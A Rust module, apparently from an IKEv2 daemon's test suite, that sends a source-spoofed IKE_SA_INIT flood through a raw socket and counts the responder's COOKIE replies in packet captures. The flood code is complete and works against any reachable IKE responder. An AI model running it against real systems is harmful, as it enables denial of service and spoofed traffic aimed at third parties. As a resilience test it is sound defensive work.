//! A spoofed IKE_SA_INIT flood, as an attacker without a return path
//! would send it: a raw IPv4 socket (IP_HDRINCL) writes whole IPv4 + UDP +
//! IKE_SA_INIT datagrams from thousands of forged source addresses, in
//! batches through sendmmsg(2), for a bounded time, paced to a target rate
//! or as fast as the host can.
//!
//! Every request is one a real initiator could send (RFC 7296 §1.2): a fresh
//! random initiator SPI, an SA payload with one IKE proposal
//! (AES-GCM-16-128, PRF-HMAC-SHA2-256, Curve25519), a KE payload with a
//! random-looking 32-octet public value, a 32-octet nonce, and both NAT-D
//! notifies computed as RFC 7296 §2.23 says. Only the source address is a
//! lie, so the responder's answers (COOKIE demands, RFC 7296 §2.6) go to
//! addresses the sender never reads.

use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

/// IKE transform IDs of the offered proposal (IANA "IKEv2 Parameters").
const ENCR_AES_GCM_16: u16 = 20;
const PRF_HMAC_SHA2_256: u16 = 5;
const GROUP_CURVE25519: u16 = 31;
/// Payload types (RFC 7296 §3.2).
const PAYLOAD_SA: u8 = 33;
const PAYLOAD_KE: u8 = 34;
const PAYLOAD_NONCE: u8 = 40;
const PAYLOAD_NOTIFY: u8 = 41;
/// IKE_SA_INIT (RFC 7296 §3.1).
const EXCHANGE_IKE_SA_INIT: u8 = 34;
/// Notify types (RFC 7296 §3.10.1).
const NAT_DETECTION_SOURCE_IP: u16 = 16388;
const NAT_DETECTION_DESTINATION_IP: u16 = 16389;
pub const NOTIFY_COOKIE: u16 = 16390;

/// Room for one datagram (IPv4 + UDP + IKE_SA_INIT: 228 octets).
const SLOT: usize = 256;

/// What to send, to where, from which forged addresses, how fast.
#[derive(Debug, Clone)]
pub struct FloodConfig {
    /// The responder under attack and its IKE port.
    pub target: Ipv4Addr,
    pub port: u16,
    /// Forged sources: `source_count` consecutive addresses from
    /// `source_base`, taken in turn.
    pub source_base: Ipv4Addr,
    pub source_count: u32,
    pub duration: Duration,
    /// Packets per second; None sends as fast as the host allows.
    pub rate: Option<u32>,
    /// Datagrams per sendmmsg(2).
    pub batch: usize,
}

/// What a flood did.
#[derive(Debug, Clone, Copy, Default)]
pub struct FloodReport {
    /// Datagrams the kernel accepted.
    pub sent: u64,
    pub elapsed: Duration,
    /// sendmmsg calls that failed (ENOBUFS and the like).
    pub send_errors: u64,
    /// Distinct forged source addresses used.
    pub sources: u32,
}

impl FloodReport {
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// xorshift64*: fast, good enough to make SPIs, nonces and public values
/// that no cache or filter can predict from the previous ones.
struct Random(u64);

impl Random {
    fn seeded() -> Random {
        let mut seed = [0u8; 8];
        openssl::rand::rand_bytes(&mut seed).expect("random seed");
        Random(u64::from_le_bytes(seed) | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn fill(&mut self, out: &mut [u8]) {
        for chunk in out.chunks_mut(8) {
            let bytes = self.next().to_le_bytes();
            chunk.copy_from_slice(&bytes[..chunk.len()]);
        }
    }
}

/// The Internet checksum (RFC 1071) of `data`, starting from `sum`.
fn checksum(mut sum: u32, data: &[u8]) -> u16 {
    let mut chunks = data.chunks_exact(2);
    for pair in &mut chunks {
        sum += u32::from(u16::from_be_bytes([pair[0], pair[1]]));
    }
    if let [last] = chunks.remainder() {
        sum += u32::from(*last) << 8;
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// RFC 7296 §2.23: SHA-1(SPIi | SPIr | IP address | port).
fn nat_detection_hash(spi_i: u64, address: Ipv4Addr, port: u16) -> [u8; 20] {
    let mut data = [0u8; 8 + 8 + 4 + 2];
    data[..8].copy_from_slice(&spi_i.to_be_bytes());
    data[16..20].copy_from_slice(&address.octets());
    data[20..].copy_from_slice(&port.to_be_bytes());
    openssl::sha::sha1(&data)
}

fn put_u16(out: &mut Vec<u8>, value: u16) {
    out.extend_from_slice(&value.to_be_bytes());
}

/// The IKE_SA_INIT request of an initiator at `source` with SPI `spi_i`
/// (RFC 7296 §1.2: HDR, SAi1, KEi, Ni, N(NAT_DETECTION_*)).
pub fn ike_sa_init(
    spi_i: u64,
    source: (Ipv4Addr, u16),
    destination: (Ipv4Addr, u16),
    public_value: &[u8; 32],
    nonce: &[u8; 32],
) -> Vec<u8> {
    let mut ike = Vec::with_capacity(SLOT);
    // Header (RFC 7296 §3.1): SPIr zero, version 2.0, Initiator flag.
    ike.extend_from_slice(&spi_i.to_be_bytes());
    ike.extend_from_slice(&[0; 8]);
    ike.extend_from_slice(&[PAYLOAD_SA, 0x20, EXCHANGE_IKE_SA_INIT, 0x08]);
    ike.extend_from_slice(&[0; 4]); // message ID
    ike.extend_from_slice(&[0; 4]); // length, set below
                                    // SA (§3.3): one proposal, protocol IKE, no SPI, three transforms.
    let transforms: [(u8, u16, Option<u16>); 3] = [
        (1, ENCR_AES_GCM_16, Some(128)),
        (2, PRF_HMAC_SHA2_256, None),
        (4, GROUP_CURVE25519, None),
    ];
    let mut proposal = vec![0, 0, 0, 0, 1, 1, 0, transforms.len() as u8];
    for (index, (transform_type, id, key_length)) in transforms.iter().enumerate() {
        let last = index + 1 == transforms.len();
        let length = if key_length.is_some() { 12 } else { 8 };
        proposal.extend_from_slice(&[if last { 0 } else { 3 }, 0]);
        put_u16(&mut proposal, length);
        proposal.extend_from_slice(&[*transform_type, 0]);
        put_u16(&mut proposal, *id);
        if let Some(bits) = key_length {
            // Key Length attribute (§3.3.5), TV format.
            put_u16(&mut proposal, 0x8000 | 14);
            put_u16(&mut proposal, *bits);
        }
    }
    let proposal_length = proposal.len() as u16;
    proposal[2..4].copy_from_slice(&proposal_length.to_be_bytes());
    ike.extend_from_slice(&[PAYLOAD_KE, 0]);
    put_u16(&mut ike, 4 + proposal_length);
    ike.extend_from_slice(&proposal);
    // KE (§3.4).
    ike.extend_from_slice(&[PAYLOAD_NONCE, 0]);
    put_u16(&mut ike, 8 + public_value.len() as u16);
    put_u16(&mut ike, GROUP_CURVE25519);
    ike.extend_from_slice(&[0, 0]);
    ike.extend_from_slice(public_value);
    // Nonce (§3.9).
    ike.extend_from_slice(&[PAYLOAD_NOTIFY, 0]);
    put_u16(&mut ike, 4 + nonce.len() as u16);
    ike.extend_from_slice(nonce);
    // NAT-D (§2.23): source first, then destination.
    for (next, notify_type, (address, port)) in [
        (PAYLOAD_NOTIFY, NAT_DETECTION_SOURCE_IP, source),
        (0, NAT_DETECTION_DESTINATION_IP, destination),
    ] {
        ike.extend_from_slice(&[next, 0]);
        put_u16(&mut ike, 8 + 20);
        ike.extend_from_slice(&[0, 0]); // protocol none, no SPI
        put_u16(&mut ike, notify_type);
        ike.extend_from_slice(&nat_detection_hash(spi_i, address, port));
    }
    let length = ike.len() as u32;
    ike[24..28].copy_from_slice(&length.to_be_bytes());
    ike
}

/// `payload` in UDP in IPv4 from `source` to `destination`, both checksums
/// computed (the kernel leaves a raw socket's UDP checksum alone).
pub fn ipv4_udp(source: (Ipv4Addr, u16), destination: (Ipv4Addr, u16), payload: &[u8]) -> Vec<u8> {
    let udp_length = 8 + payload.len() as u16;
    let total = 20 + udp_length;
    let mut packet = Vec::with_capacity(total as usize);
    packet.extend_from_slice(&[0x45, 0]);
    put_u16(&mut packet, total);
    packet.extend_from_slice(&[0, 0, 0x40, 0]); // ID (kernel fills), DF
    packet.extend_from_slice(&[64, 17, 0, 0]); // TTL, UDP, checksum below
    packet.extend_from_slice(&source.0.octets());
    packet.extend_from_slice(&destination.0.octets());
    let header_checksum = checksum(0, &packet[..20]);
    packet[10..12].copy_from_slice(&header_checksum.to_be_bytes());
    put_u16(&mut packet, source.1);
    put_u16(&mut packet, destination.1);
    put_u16(&mut packet, udp_length);
    put_u16(&mut packet, 0);
    packet.extend_from_slice(payload);
    // Pseudo-header (RFC 768): addresses, protocol, UDP length.
    let mut pseudo = 0u32;
    for word in [source.0.octets(), destination.0.octets()] {
        pseudo += u32::from(u16::from_be_bytes([word[0], word[1]]));
        pseudo += u32::from(u16::from_be_bytes([word[2], word[3]]));
    }
    pseudo += 17 + u32::from(udp_length);
    let mut udp_checksum = checksum(pseudo, &packet[20..]);
    if udp_checksum == 0 {
        udp_checksum = 0xffff; // zero means "no checksum"
    }
    packet[26..28].copy_from_slice(&udp_checksum.to_be_bytes());
    packet
}

/// Writes one fresh spoofed request into `slot`; returns its length.
fn next_packet(config: &FloodConfig, random: &mut Random, index: u64, slot: &mut [u8]) -> usize {
    let source = Ipv4Addr::from(
        u32::from(config.source_base)
            .wrapping_add((index % u64::from(config.source_count.max(1))) as u32),
    );
    // Port 500, as initiators not behind a NAT send from; the NAT-D hashes
    // name the forged address and this port, so the responder sees no NAT.
    let source_port = 500;
    let mut public_value = [0u8; 32];
    let mut nonce = [0u8; 32];
    random.fill(&mut public_value);
    random.fill(&mut nonce);
    let ike = ike_sa_init(
        random.next(),
        (source, source_port),
        (config.target, config.port),
        &public_value,
        &nonce,
    );
    let packet = ipv4_udp((source, source_port), (config.target, config.port), &ike);
    slot[..packet.len()].copy_from_slice(&packet);
    packet.len()
}

/// Runs the flood from the calling thread's network namespace.
pub fn flood(config: &FloodConfig) -> Result<FloodReport, String> {
    use nix::libc;
    assert!(config.batch > 0 && config.batch <= 1024, "batch 1..=1024");
    // SAFETY: plain system call; the descriptor is owned at once.
    let raw = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if raw < 0 {
        return Err(format!(
            "raw socket: {} (needs CAP_NET_RAW)",
            std::io::Error::last_os_error()
        ));
    }
    // SAFETY: raw is a fresh descriptor nobody else owns.
    let socket = unsafe { OwnedFd::from_raw_fd(raw) };
    // IPPROTO_RAW implies IP_HDRINCL; say it anyway.
    let on: libc::c_int = 1;
    let buffer: libc::c_int = 4 << 20;
    // SAFETY: the option values live across the calls.
    unsafe {
        if libc::setsockopt(
            socket.as_raw_fd(),
            libc::IPPROTO_IP,
            libc::IP_HDRINCL,
            (&on as *const libc::c_int).cast(),
            std::mem::size_of::<libc::c_int>() as libc::socklen_t,
        ) != 0
        {
            return Err(format!("IP_HDRINCL: {}", std::io::Error::last_os_error()));
        }
        libc::setsockopt(
            socket.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_SNDBUFFORCE,
            (&buffer as *const libc::c_int).cast(),
            std::mem::size_of::<libc::c_int>() as libc::socklen_t,
        );
    }
    let destination = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(config.target).to_be(),
        },
        sin_zero: [0; 8],
    };
    let mut slots = vec![[0u8; SLOT]; config.batch];
    let mut iovecs: Vec<libc::iovec> = vec![
        libc::iovec {
            iov_base: std::ptr::null_mut(),
            iov_len: 0,
        };
        config.batch
    ];
    // SAFETY: mmsghdr is plain data; all-zero is a valid empty header.
    let mut headers: Vec<libc::mmsghdr> = vec![unsafe { std::mem::zeroed() }; config.batch];
    let mut random = Random::seeded();
    let mut report = FloodReport {
        sources: config.source_count,
        ..FloodReport::default()
    };
    let mut index = 0u64;
    let start = Instant::now();
    let end = start + config.duration;
    loop {
        let now = Instant::now();
        if now >= end {
            break;
        }
        let elapsed = now - start;
        let wanted = match config.rate {
            None => config.batch,
            Some(rate) => {
                let due = (elapsed.as_secs_f64() * f64::from(rate)) as u64;
                let behind = due.saturating_sub(report.sent) as usize;
                if behind == 0 {
                    std::thread::sleep(Duration::from_micros(500));
                    continue;
                }
                behind.min(config.batch)
            }
        };
        for n in 0..wanted {
            let len = next_packet(config, &mut random, index, &mut slots[n]);
            index += 1;
            iovecs[n] = libc::iovec {
                iov_base: slots[n].as_mut_ptr().cast(),
                iov_len: len,
            };
            headers[n].msg_hdr.msg_name =
                (&destination as *const libc::sockaddr_in).cast_mut().cast();
            headers[n].msg_hdr.msg_namelen =
                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t;
            headers[n].msg_hdr.msg_iov = &mut iovecs[n];
            headers[n].msg_hdr.msg_iovlen = 1;
        }
        // SAFETY: headers[..wanted] point at live iovecs, slots and the
        // destination address for the duration of the call.
        let sent = unsafe {
            libc::sendmmsg(
                socket.as_raw_fd(),
                headers.as_mut_ptr(),
                wanted as libc::c_uint,
                0,
            )
        };
        if sent < 0 {
            report.send_errors += 1;
            let error = std::io::Error::last_os_error();
            match error.raw_os_error() {
                Some(libc::ENOBUFS) | Some(libc::EAGAIN) | Some(libc::EINTR) => {
                    std::thread::yield_now()
                }
                _ => return Err(format!("sendmmsg: {error}")),
            }
        } else {
            report.sent += sent as u64;
        }
    }
    report.elapsed = start.elapsed();
    Ok(report)
}

/// Runs [`flood`] on a new thread inside the network namespace `netns`
/// (`ip netns` name): setns(2) moves only that thread.
pub fn spawn_in(
    netns: &str,
    config: FloodConfig,
) -> std::thread::JoinHandle<Result<FloodReport, String>> {
    let path = format!("/run/netns/{netns}");
    std::thread::spawn(move || {
        let ns = std::fs::File::open(&path).map_err(|e| format!("{path}: {e}"))?;
        nix::sched::setns(&ns, nix::sched::CloneFlags::CLONE_NEWNET)
            .map_err(|e| format!("setns {path}: {e}"))?;
        flood(&config)
    })
}

/// What a capture of a responder's answers holds.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AnswerCount {
    /// IPv4 UDP datagrams captured.
    pub datagrams: u64,
    /// IKE_SA_INIT responses.
    pub sa_init_responses: u64,
    /// Of those, answers that are a COOKIE notify (RFC 7296 §2.6).
    pub cookie_demands: u64,
    /// Distinct addresses the COOKIE demands went to.
    pub cookie_destinations: usize,
}

/// Counts IKE_SA_INIT responses and COOKIE demands in a pcap file
/// (tcpdump -w, Ethernet link type, IKE on port 500 without a marker).
pub fn count_answers(pcap: &[u8]) -> Result<AnswerCount, String> {
    let header = pcap.get(..24).ok_or("pcap file shorter than its header")?;
    let magic = u32::from_le_bytes([header[0], header[1], header[2], header[3]]);
    let little = match magic {
        0xa1b2_c3d4 | 0xa1b2_3c4d => true,
        0xd4c3_b2a1 | 0x4d3c_b2a1 => false,
        other => return Err(format!("not a pcap file (magic {other:08x})")),
    };
    let u32_at = |bytes: &[u8], at: usize| -> u32 {
        let b = [bytes[at], bytes[at + 1], bytes[at + 2], bytes[at + 3]];
        if little {
            u32::from_le_bytes(b)
        } else {
            u32::from_be_bytes(b)
        }
    };
    let link_type = u32_at(header, 20);
    if link_type != 1 {
        return Err(format!("pcap link type {link_type}, expected Ethernet (1)"));
    }
    let mut count = AnswerCount::default();
    let mut destinations = std::collections::HashSet::new();
    let mut at = 24;
    while let Some(record) = pcap.get(at..at + 16) {
        let captured = u32_at(record, 8) as usize;
        let Some(frame) = pcap.get(at + 16..at + 16 + captured) else {
            break; // a capture cut short at the end
        };
        at += 16 + captured;
        // Ethernet II, IPv4, UDP.
        if frame.len() < 14 + 20 + 8 || frame[12..14] != [0x08, 0x00] {
            continue;
        }
        let ip = &frame[14..];
        let ihl = usize::from(ip[0] & 0x0f) * 4;
        if ip[0] >> 4 != 4 || ip[9] != 17 || ip.len() < ihl + 8 {
            continue;
        }
        count.datagrams += 1;
        let ike = &ip[ihl + 8..];
        if ike.len() < 28 || ike[18] != EXCHANGE_IKE_SA_INIT || ike[19] & 0x20 == 0 {
            continue;
        }
        count.sa_init_responses += 1;
        // First payload a Notify whose type (octets 6..8 of it) is COOKIE.
        if ike[16] == PAYLOAD_NOTIFY
            && ike.get(28 + 6..28 + 8) == Some(&NOTIFY_COOKIE.to_be_bytes()[..])
        {
            count.cookie_demands += 1;
            destinations.insert([ip[16], ip[17], ip[18], ip[19]]);
        }
    }
    count.cookie_destinations = destinations.len();
    Ok(count)
}

#[cfg(test)]
mod tests {
    use super::*;
    use iked_common::wire::{Message, Payload, TransformId};

    const SOURCE: (Ipv4Addr, u16) = (Ipv4Addr::new(198, 19, 7, 9), 500);
    const TARGET: (Ipv4Addr, u16) = (Ipv4Addr::new(198, 18, 0, 1), 500);

    #[test]
    fn the_request_is_a_well_formed_ike_sa_init() {
        let ike = ike_sa_init(0x0102_0304_0506_0708, SOURCE, TARGET, &[7; 32], &[9; 32]);
        assert_eq!(ike.len(), 200);
        let message = Message::decode(&ike).expect("our decoder accepts it");
        assert_eq!(message.header.initiator_spi, 0x0102_0304_0506_0708);
        assert_eq!(message.header.responder_spi, 0);
        assert!(message.header.flags.initiator && !message.header.flags.response);
        let kinds: Vec<_> = message
            .payloads
            .iter()
            .map(|p| format!("{:?}", p.payload_type()))
            .collect();
        assert_eq!(
            kinds,
            [
                "SecurityAssociation",
                "KeyExchange",
                "Nonce",
                "Notify",
                "Notify"
            ]
        );
        let Payload::SecurityAssociation(sa) = &message.payloads[0] else {
            panic!("SA first")
        };
        let ids: Vec<(u8, u16)> = sa.proposals[0]
            .transforms
            .iter()
            .map(|t| (t.id.transform_type().value(), t.id.id()))
            .collect();
        assert_eq!(ids, [(1, 20), (2, 5), (4, 31)]);
        assert_eq!(
            sa.proposals[0].transforms[0].id,
            TransformId::from_values(1, ENCR_AES_GCM_16)
        );
        let Payload::Notify(source) = &message.payloads[3] else {
            panic!("NAT-D source")
        };
        assert_eq!(
            source.data,
            nat_detection_hash(0x0102_0304_0506_0708, SOURCE.0, SOURCE.1)
        );
    }

    #[test]
    fn the_ip_and_udp_checksums_verify() {
        let ike = ike_sa_init(42, SOURCE, TARGET, &[1; 32], &[2; 32]);
        let packet = ipv4_udp(SOURCE, TARGET, &ike);
        assert_eq!(packet.len(), 228);
        assert_eq!(checksum(0, &packet[..20]), 0, "IPv4 header checksum");
        let mut pseudo = Vec::new();
        pseudo.extend_from_slice(&SOURCE.0.octets());
        pseudo.extend_from_slice(&TARGET.0.octets());
        pseudo.extend_from_slice(&[0, 17]);
        pseudo.extend_from_slice(&(packet.len() as u16 - 20).to_be_bytes());
        pseudo.extend_from_slice(&packet[20..]);
        assert_eq!(checksum(0, &pseudo), 0, "UDP checksum");
    }

    #[test]
    fn packets_differ_in_source_spi_and_values() {
        let config = FloodConfig {
            target: TARGET.0,
            port: 500,
            source_base: Ipv4Addr::new(198, 19, 0, 0),
            source_count: 4096,
            duration: Duration::ZERO,
            rate: None,
            batch: 1,
        };
        let mut random = Random(1);
        let mut a = [0u8; SLOT];
        let mut b = [0u8; SLOT];
        let len = next_packet(&config, &mut random, 0, &mut a);
        next_packet(&config, &mut random, 1, &mut b);
        assert_eq!(&a[12..16], &[198, 19, 0, 0]);
        assert_eq!(&b[12..16], &[198, 19, 0, 1]);
        assert_ne!(a[28..36], b[28..36], "initiator SPIs");
        assert_ne!(a[..len], b[..len]);
        let wrapped = next_packet(&config, &mut random, 4096, &mut b);
        assert_eq!(wrapped, len);
        assert_eq!(&b[12..16], &[198, 19, 0, 0]);
    }

    #[test]
    fn cookie_demands_are_counted_in_a_capture() {
        // A pcap with one COOKIE demand and one full IKE_SA_INIT response.
        let mut pcap = Vec::new();
        pcap.extend_from_slice(&0xa1b2_c3d4u32.to_le_bytes());
        pcap.extend_from_slice(&[2, 0, 4, 0]);
        pcap.extend_from_slice(&[0; 8]);
        pcap.extend_from_slice(&65535u32.to_le_bytes());
        pcap.extend_from_slice(&1u32.to_le_bytes());
        let answer = |first_payload: u8, notify_type: u16| {
            let mut ike = vec![0u8; 28];
            ike[16] = first_payload;
            ike[17] = 0x20;
            ike[18] = EXCHANGE_IKE_SA_INIT;
            ike[19] = 0x20;
            ike.extend_from_slice(&[0, 0, 0, 41, 0, 0]);
            ike.extend_from_slice(&notify_type.to_be_bytes());
            ike.extend_from_slice(&[1; 33]);
            let mut frame = vec![0u8; 12];
            frame.extend_from_slice(&[0x08, 0x00]);
            frame.extend_from_slice(&ipv4_udp(TARGET, SOURCE, &ike));
            frame
        };
        for frame in [answer(41, NOTIFY_COOKIE), answer(33, 0)] {
            pcap.extend_from_slice(&[0; 8]);
            pcap.extend_from_slice(&(frame.len() as u32).to_le_bytes());
            pcap.extend_from_slice(&(frame.len() as u32).to_le_bytes());
            pcap.extend_from_slice(&frame);
        }
        assert_eq!(
            count_answers(&pcap).unwrap(),
            AnswerCount {
                datagrams: 2,
                sa_init_responses: 2,
                cookie_demands: 1,
                cookie_destinations: 1,
            }
        );
        assert!(count_answers(b"junk").is_err());
    }
}
